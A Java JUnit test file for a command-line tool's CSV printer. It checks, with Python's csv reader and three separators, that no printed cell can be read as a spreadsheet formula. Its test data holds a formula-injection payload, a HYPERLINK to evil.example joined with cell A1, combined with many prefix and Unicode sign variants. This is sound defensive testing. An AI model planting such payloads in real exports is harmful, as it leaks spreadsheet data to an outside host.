package id.setia.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import id.setia.PlainText;
import id.setia.duckdb.DuckDb;
import id.setia.duckdb.DuckDbLimits;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import picocli.CommandLine;

/** No cell of a CSV is a formula, read by somebody else's reader with every separator. */
class CsvLineTest {

  private static final String LINK = "HYPERLINK(\"http://evil.example/\"&A1)";

  /** What reaches a cell's beginning, in every place where one may begin for some reader. */
  private static final List<String> BEFORE =
      List.of(
          "",
          " ",
          "\t",
          "\n",
          "\r",
          "\r\n",
          "\u000b",
          "\f",
          "\u0000",
          "\u0085",
          "\u00a0",
          "\u2028",
          "\u3000",
          "\u200b",
          "\ufeff",
          "\u202e",
          "\"",
          "\"\"",
          "x;",
          "x; ",
          "x;\"",
          "x\t",
          "x\t\"\"",
          "x\n",
          "x\r\n\u00a0",
          "x\u2028",
          "x\u0085\"",
          ";;\t",
          ";\ufeff\"");

  private static final List<String> SIGNS =
      List.of(
          "=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207a", "\u2212");

  /** Python's csv: the rows of a file for one separator, as JSON. */
  private static final String READER =
      "import csv,json,sys;csv.field_size_limit(1<<30);"
          + "print(json.dumps(list(csv.reader(open(sys.argv[1],newline='',encoding='utf-8'),delimiter=sys.argv[2]))))";

  @ParameterizedTest
  @ValueSource(strings = {",", ";", "\t"})
  void noCellIsAFormulaToAReaderThatSplitsAt(String separator, @TempDir Path directory)
      throws Exception {
    List<List<@Nullable Object>> rows = new ArrayList<>();
    for (String before : BEFORE) {
      for (String sign : SIGNS) {
        String text = before + sign + LINK;
        rows.add(List.of(text, "x", text, -1.5));
        rows.add(List.of(1, text, "5+" + LINK, "y"));
        rows.add(List.of(new BigDecimal("-3"), "5+" + LINK, text, "A1*" + LINK));
      }
    }
    assertNoFormula(directory, List.of("=a", "x;\"=b", "\u2212c", "d"), rows, separator);
  }

  /** Texts of the characters that matter, put together at random. */
  @ParameterizedTest
  @ValueSource(strings = {",", ";", "\t"})
  void noRandomCellIsAFormulaToAReaderThatSplitsAt(String separator, @TempDir Path directory)
      throws Exception {
    Random random = new Random(20261128);
    String[] parts = {
      "=", "+", "-", "@", "\uff1d", "\u2212", "\"", "'", ";", ",", "\t", "\n", "\r", "\u2028", " ",
      "\u00a0", "\u0000", "\ufeff", "\u202e", "A1", "5", "|", "x"
    };
    List<List<@Nullable Object>> rows = new ArrayList<>();
    for (int row = 0; row < 5_000; row++) {
      List<@Nullable Object> cells = new ArrayList<>();
      for (int column = 0; column < 3; column++) {
        StringBuilder text = new StringBuilder();
        for (int part = random.nextInt(8); part > 0; part--) {
          text.append(parts[random.nextInt(parts.length)]);
        }
        cells.add(random.nextInt(6) == 0 ? -random.nextInt(9) : text.toString());
      }
      rows.add(cells);
    }
    assertNoFormula(directory, List.of("a", "b", "c"), rows, separator);
  }

  /** A list, a structure, a map and JSON hold texts too. */
  @Test
  void valuesMadeOfTextsAreTexts() {
    try (DuckDb duckDb =
        DuckDb.inMemory(new DuckDbLimits(256, 1), Path.of(System.getProperty("java.io.tmpdir")))) {
      List<@Nullable Object> cells =
          duckDb
              .query(
                  "select ['x;=1'], {'a': 'x;=1'}, map {'x;=1': 1}, '\"x;=1\"'::json, 'x;=1'::enum ('x;=1'), union_value(a := 'x;=1')",
                  row -> {
                    List<@Nullable Object> values = new ArrayList<>();
                    for (int index = 1; index <= 6; index++) {
                      values.add(row.getObject(index));
                    }
                    return values;
                  })
              .get(0);
      assertThat(CsvLine.of(cells)).contains("x;'=1").doesNotContain("x;=1");
    }
  }

  @Test
  void numbersAndTimesAreWhatTheyAre() {
    assertThat(
            CsvLine.of(
                List.of(-3L, new BigDecimal("-1E+3"), -0.5, LocalDate.of(2026, 1, 31), true)))
        .isEqualTo("-3,-1000,-0.5,2026-01-31,true");
  }

  private static void assertNoFormula(
      Path directory, List<String> columns, List<List<@Nullable Object>> rows, String separator)
      throws Exception {
    assumeTrue(NodeClient.runs("python3", "--version"), "Skipped: no python3");
    Path file = directory.resolve("out.csv");
    Files.writeString(file, printed(columns, rows));
    JsonNode read = read(file, separator);
    for (JsonNode row : read) {
      for (JsonNode cell : row) {
        assertThat(isFormula(cell.asText())).as("%s of %s", cell, row).isFalse();
      }
    }
    if (separator.equals(",")) {
      assertThat(read.size()).isEqualTo(rows.size() + 1);
      for (int row = 0; row < rows.size(); row++) {
        for (int column = 0; column < columns.size(); column++) {
          String was = CsvLine.plain(rows.get(row).get(column));
          assertThat(read.get(row + 1).get(column).asText().replace("'", ""))
              .as("nothing but apostrophes came to row %d", row)
              .isEqualTo(PlainText.lines(was).replace("'", ""));
        }
      }
    }
  }

  /** Through the printer, as a command does. */
  // JDK 17 and 25 read the nullness of a class file's type arguments differently
  @SuppressWarnings("NullAway")
  private static String printed(List<String> columns, List<List<@Nullable Object>> rows) {
    OutputFormat format = new OutputFormat();
    new CommandLine(format).parseArgs("--format=CSV");
    StringWriter out = new StringWriter();
    PrintWriter plain = PlainWriter.over(new PrintWriter(out));
    format.print(
        new Terminal(plain, plain, Map.of(), Shell.CLOCK, false, Terminal.USUAL_COLUMNS),
        columns,
        rows);
    return out.toString();
  }

  private static JsonNode read(Path file, String separator) throws Exception {
    Process python =
        new ProcessBuilder("python3", "-c", READER, file.toString(), separator)
            .redirectError(ProcessBuilder.Redirect.INHERIT)
            .start();
    String json = new String(python.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(python.waitFor()).isZero();
    return new ObjectMapper().readTree(json);
  }

  /**
   * Whether a spreadsheet could reckon with it: it begins like a formula, behind what is passed
   * over, and is neither a number nor one before texts in quotes, the last of which may be cut off
   * by a reader's separator.
   */
  private static boolean isFormula(String cell) {
    String text =
        Normalizer.normalize(cell, Normalizer.Form.NFKC)
            .replace('\u2212', '-')
            .replaceAll("^[\\p{Cc}\\p{Cf}\\p{Z}\ufffd]+", "");
    return text.matches("(?s)[=+\\-@].*")
        && !text.matches("-[0-9.]+")
        && !text.matches("(?s)-[0-9.]+(,(\"([^\"]|\"\")*\"|-?[0-9.]*))*(,\"([^\"]|\"\")*)?");
  }
}
